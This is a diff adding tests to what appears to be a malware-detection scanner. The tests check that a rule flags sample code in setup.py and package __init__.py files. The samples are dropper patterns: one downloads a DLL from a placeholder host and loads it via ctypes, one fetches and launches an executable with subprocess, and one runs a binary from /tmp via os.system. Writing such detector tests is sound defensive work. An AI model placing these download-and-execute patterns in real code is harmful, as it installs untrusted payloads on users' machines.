@@ -156,3 +156,20 @@ os.system("/tmp/a &")
 """
     assert scan(RULE, text, "setup.py") == [(3, "HIGH", "HIGH", "install")]
     assert scan(RULE, text.replace("/tmp/a &", "ls /tmp/abc"), "setup.py") == []
+
+
+def test_a_library_that_is_loaded(scan):
+    text = """import ctypes, urllib.request
+urllib.request.urlretrieve("https://files.example.test/a.dll", "a.dll")
+ctypes.CDLL("a.dll")
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]
+
+
+def test_a_dropper_that_is_tried_out(scan):
+    text = """import requests, subprocess
+def go():
+    open("a.exe", "wb").write(requests.get("http://localhost:3000/a.exe").content)
+    subprocess.Popen(["a.exe"])
+"""
+    assert scan(RULE, text) == [(4, "MEDIUM", "MEDIUM", "run")]
